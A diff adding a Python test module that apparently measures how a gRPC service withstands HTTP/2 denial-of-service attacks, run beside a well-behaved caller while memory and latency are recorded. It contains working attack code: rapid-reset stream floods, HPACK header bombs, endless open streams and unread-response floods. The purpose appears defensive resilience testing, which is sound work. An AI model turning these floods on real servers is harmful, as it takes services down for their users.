@@ -1,0 +1,202 @@
+"""Attacks on a service, each from a process of its own, beside a good caller in another one."""
+
+import contextlib
+import multiprocessing
+import socket
+import time
+from collections import Counter
+from collections.abc import Callable, Iterator
+from itertools import count
+from multiprocessing.connection import Connection as Pipe
+from statistics import quantiles
+from threading import Thread
+from typing import NamedTuple
+
+import grpc
+from calling import PATH
+from hostile import PREDICT
+from http2 import (
+    END_HEADERS,
+    HEADERS,
+    RST_STREAM,
+    Connection,
+    call,
+    frame,
+    headers_of,
+    hello,
+    indexed_header,
+    message,
+)
+from serving import Service
+
+ATTACK_SECONDS = 10.0
+# How long memory may take to come back.
+REST_SECONDS = 5.0
+CONNECTIONS = 1
+CANCEL = (8).to_bytes(4, "big")
+# A server keeps 4,096 bytes of headers, and takes 8,192 of a call's metadata, as they are sent.
+KEPT_BYTES, REFERENCES = 4000, 3000
+
+Attack = Callable[[str, bytes], None]
+
+
+class Damage(NamedTuple):
+    """What an attack did.
+
+    Attributes:
+        before, peak, after: MiB of the largest process of the service: before the attack, at the
+            worst moment, and some seconds after its end.
+        p99: Seconds that 99 of 100 calls of the good caller took at most.
+        outcomes: How the good caller's calls ended.
+    """
+
+    before: float
+    peak: float
+    after: float
+    p99: float
+    outcomes: Counter[str]
+
+
+def rapid_reset(address: str, request: bytes) -> None:
+    """Make calls, and reset each at once."""
+    data, path = message(request), PREDICT
+
+    def resets(numbers: range) -> bytes:
+        return b"".join(
+            call(number, path, data) + frame(RST_STREAM, 0, number, CANCEL) for number in numbers
+        )
+
+    flood(address, b"", resets, streams=500)
+
+
+def rapid_reset_of_open_calls(address: str, request: bytes) -> None:
+    """Begin calls without a message, and reset each at once."""
+
+    def resets(numbers: range) -> bytes:
+        return b"".join(
+            frame(HEADERS, END_HEADERS, number, PREDICT) + frame(RST_STREAM, 0, number, CANCEL)
+            for number in numbers
+        )
+
+    flood(address, b"", resets, streams=500)
+
+
+def header_bombs(address: str, request: bytes) -> None:
+    """Begin calls whose headers are small on the wire, and 12 MB when they are written out."""
+    first = frame(HEADERS, END_HEADERS, 1, PREDICT + indexed_header("x", "x" * KEPT_BYTES))
+    bomb = PREDICT + b"\xbe" * REFERENCES  # The newest of the headers that are kept.
+
+    def bombs(numbers: range) -> bytes:
+        return b"".join(frame(HEADERS, END_HEADERS, number, bomb) for number in numbers)
+
+    flood(address, first, bombs, streams=50)
+
+
+def endless_calls(address: str, request: bytes) -> None:
+    """Begin calls, and neither go on with them nor end them."""
+
+    def beginnings(numbers: range) -> bytes:
+        return b"".join(frame(HEADERS, END_HEADERS, number, PREDICT) for number in numbers)
+
+    flood(address, b"", beginnings, streams=500)
+
+
+def unread_answers(address: str, request: bytes) -> None:
+    """Ask for large answers, and take none of them."""
+    data, path = message(request), headers_of(f"{PATH}/BatchPredict")
+
+    def calls(numbers: range) -> bytes:
+        return b"".join(call(number, path, data) for number in numbers)
+
+    flood(address, b"", calls, streams=10)
+
+
+def flood(address: str, first: bytes, words: Callable[[range], bytes], *, streams: int) -> None:
+    """Say words about ever more streams on some connections, for as long as the process lives.
+
+    A connection that the server closes, or takes nothing from, is replaced by another one.
+
+    Args:
+        first: What to say on a new connection.
+        words: Returns what to say about streams of these numbers.
+        streams: How many there are each time.
+    """
+    connections: list[tuple[Connection, Iterator[int]]] = []
+    for turn in count():
+        if len(connections) < CONNECTIONS:
+            connection = Connection(address, timeout=2)
+            connection.send(hello(window=0) + first)
+            Thread(target=read, args=[connection], daemon=True).start()
+            connections.append((connection, count(3, 2 * streams)))
+        place = turn % len(connections)
+        connection, numbers = connections[place]
+        try:
+            begin = next(numbers)
+            connection.send(words(range(begin, begin + 2 * streams, 2)))
+        except OSError:
+            connection.socket.close()
+            del connections[place]
+
+
+def read(connection: Connection) -> None:
+    """Read what there is, and be polite: servers read no further until their pings are answered."""
+    with contextlib.suppress(OSError):
+        for _ in connection.frames():
+            pass
+        connection.socket.shutdown(socket.SHUT_RDWR)
+
+
+def call_well(address: str, request: bytes, results: Pipe) -> None:
+    """Make one call after another until told to stop; send seconds and outcomes then."""
+    seconds, outcomes = [], Counter[str]()
+    with grpc.insecure_channel(address) as channel:
+        predict = channel.unary_unary(f"{PATH}/Predict")
+        predict(request, timeout=30)
+        results.send("ready")
+        while not results.poll():
+            begin = time.monotonic()
+            try:
+                predict(request, timeout=20)
+                outcomes["OK"] += 1
+            except grpc.RpcError as error:
+                outcomes[error.code().name] += 1
+            seconds.append(time.monotonic() - begin)
+            time.sleep(0.005)
+    results.send((seconds, outcomes))
+
+
+def damage_of(
+    attack: Attack, service: Service, request: bytes, good: bytes, seconds: float = ATTACK_SECONDS
+) -> Damage:
+    """Attack a service for some seconds, while a good caller goes on.
+
+    Args:
+        request: What the attack asks for.
+        good: What the good caller asks for: one row.
+    """
+    spawn = multiprocessing.get_context("spawn")
+    ours, theirs = spawn.Pipe()
+    caller = spawn.Process(target=call_well, args=(service.address, good, theirs), daemon=True)
+    attacker = spawn.Process(target=attack, args=(service.address, request), daemon=True)
+    try:
+        caller.start()
+        assert ours.poll(30), "waited in vain for the good caller"
+        ours.recv()
+        before = peak = service.memory()
+        attacker.start()
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            peak = max(peak, service.memory())
+            assert attacker.is_alive(), f"the attack {attack.__name__} ended early"
+            time.sleep(0.05)
+        ours.send("stop")
+        assert ours.poll(30), "waited in vain for what the good caller saw"
+        times, outcomes = ours.recv()
+        attacker.kill()
+        time.sleep(REST_SECONDS)
+        return Damage(before, peak, service.memory(), quantiles(times, n=100)[-1], outcomes)
+    finally:
+        for process in (caller, attacker):
+            if process.pid:
+                process.kill()
+                process.join()
